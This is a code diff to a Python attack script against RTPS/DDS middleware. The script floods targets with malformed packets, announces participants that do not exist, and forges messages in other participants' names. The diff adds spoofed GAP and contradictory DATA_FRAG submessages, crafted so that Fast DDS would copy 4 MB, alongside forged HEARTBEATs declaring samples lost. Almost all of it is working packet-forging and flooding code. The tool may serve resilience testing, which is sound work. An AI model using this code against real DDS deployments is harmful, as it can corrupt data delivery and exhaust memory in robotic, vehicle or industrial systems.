@@ -5,7 +5,7 @@ attack.py capture FILE SECONDS         records each different UDP payload on the
 attack.py storm SECONDS RATE SEED KINDS TARGETS [FILE]
     KINDS      a comma-separated list: random, rtps (valid header, broken submessages), tcp, mutated (altered copies of FILE)
     TARGETS    JSON: {"udp": [[address, port], ...], "tcp": [...]}
-attack.py forge FILE SECONDS TARGETS   sends HEARTBEATs with the GUID of every participant in FILE, for every writer that it may have
+attack.py forge FILE SECONDS TARGETS   sends HEARTBEATs, GAPs and DATA_FRAGs with the GUID of every participant in FILE, for every writer that it may have
 attack.py crowd FILE SECONDS TARGETS   sends copies of the announcements in FILE, each for another participant that does not exist
 Each attack prints as JSON how many packets of each kind it sent."""
 
@@ -19,7 +19,7 @@ import sys
 import time
 
 MULTICAST = "239.255.0.1"
-# The submessages of RTPS 2.3 and of DDS Security.
+# The kinds of submessages that RTPS 2.3 and DDS Security define.
 KNOWN = (0x01, 0x06, 0x07, 0x08, 0x09, 0x0C, 0x0D, 0x0E, 0x0F, 0x12, 0x13, 0x15, 0x16, 0x30, 0x31, 0x32, 0x33, 0x34)
 DATA, DATA_FRAG, HEARTBEAT, ACKNACK, GAP = 0x15, 0x16, 0x07, 0x06, 0x08
 # The built-in readers and writers that every participant has.
@@ -90,7 +90,7 @@ class Thrower:
         """Returns a parameter list like those of discovery, with random lengths and contents."""
         data = b""
         for _ in range(self.r.randrange(0, 12)):
-            # The parameters of the specification, of DDS Security and of vendors.
+            # The ids of parameters that RTPS, DDS Security and vendors define, or a random id.
             number = self.r.choice((0x02, 0x05, 0x07, 0x0F, 0x15, 0x16, 0x1A, 0x1D, 0x2F, 0x30, 0x31, 0x32, 0x33, 0x34, 0x40, 0x44, 0x50, 0x52,
                                     0x58, 0x59, 0x5A, 0x60, 0x62, 0x70, 0x71, 0x72, 0x73, 0x75, 0x77, 0x1001, 0x1002, 0x8000, 0x8007,
                                     self.r.randrange(65536)))
@@ -209,22 +209,39 @@ def storm(seconds, rate, seed, kinds, targets, path):
     return {"sent": sent, "refused": refused, "seconds": round(time.monotonic() - begin, 1)}
 
 
+def forged(kind, before, writer, after):
+    """Returns a submessage of `writer` to all its readers. `before` and `after` are the bytes before and after the ids."""
+    body = before + bytes(4) + writer + after
+    return struct.pack("<BBH", kind, 1 if kind == DATA_FRAG else 3, len(body)) + body
+
+
+def fragments(writer, count, size, sample):
+    """Returns a DATA_FRAG with the first `count` fragments of a sample that no writer has sent."""
+    return forged(DATA_FRAG, struct.pack("<HH", 0, 28), writer, struct.pack("<IIIHHI", 256, 1, 1, count, size, sample) + bytes(count * size))
+
+
 def forge(path, seconds, targets):
-    """Sends unencrypted HEARTBEATs, each of which claims that all samples up to number 2^40 are gone."""
+    """Sends unencrypted packets in the name of the members. HEARTBEATs claim that all samples up to number 2^40 are gone. Each GAP is for other
+    numbers after a missing sample. Of two DATA_FRAGs, the second contradicts the first one, so that Fast DDS would copy 4 MB from it."""
     names = {payload[8:20] for payload in read_captured(path) if payload[:4] == b"RTPS"}
+    writers = [struct.pack(">I", number << 8 | kind) for number in range(1, 65) for kind in (2, 3)]
     udp = sender(targets)
+
+    def send(name, content):
+        for target in targets["udp"]:
+            udp.sendto(b"RTPS\x02\x03\x01\x0f" + name + content, tuple(target))
+
     begin = time.monotonic()
     sent = 0
     while time.monotonic() - begin < seconds:
         for name in names:
-            message = b"RTPS\x02\x03\x01\x0f" + name
-            for number in range(1, 65):
-                for kind in (2, 3):
-                    writer = struct.pack(">I", number << 8 | kind)
-                    message += struct.pack("<BBH", HEARTBEAT, 3, 28) + bytes(4) + writer + struct.pack("<IIIII", 256, 0, 256, 0, 10 ** 6 + sent)
-            for target in targets["udp"]:
-                udp.sendto(message, tuple(target))
-            sent += 1
+            send(name, b"".join(forged(HEARTBEAT, b"", writer, struct.pack("<IIIII", 256, 0, 256, 0, 10 ** 6 + sent)) for writer in writers))
+            start = 10 + (sent << 18)
+            send(name, b"".join(forged(GAP, b"", writer, struct.pack("<IIIII", 256, start, 256, start + (1 << 18), 0)) for writer in writers))
+            for writer in writers if sent == 0 else ():
+                send(name, fragments(writer, 1, 4000, 4_000_000))
+                send(name, fragments(writer, 1000, 4, 4000))
+        sent += 1
         time.sleep(0.05)
     return {"members": len(names), "sent": sent * len(targets["udp"])}
 
